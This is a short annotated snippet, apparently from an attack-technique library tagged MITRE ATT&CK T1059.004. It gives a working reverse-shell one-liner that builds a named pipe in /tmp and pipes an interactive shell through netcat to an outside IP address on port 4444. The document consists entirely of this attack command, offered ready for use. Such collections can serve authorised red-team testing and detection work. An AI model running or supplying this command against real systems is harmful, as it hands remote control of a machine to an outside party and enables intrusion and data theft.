# title: A shell between netcat and a named pipe
# technique: T1059.004
# needs: nc

cd /tmp && mkfifo f
cat f | sh -i 2>&1 | timeout 5 nc 192.88.99.7 4444 >f
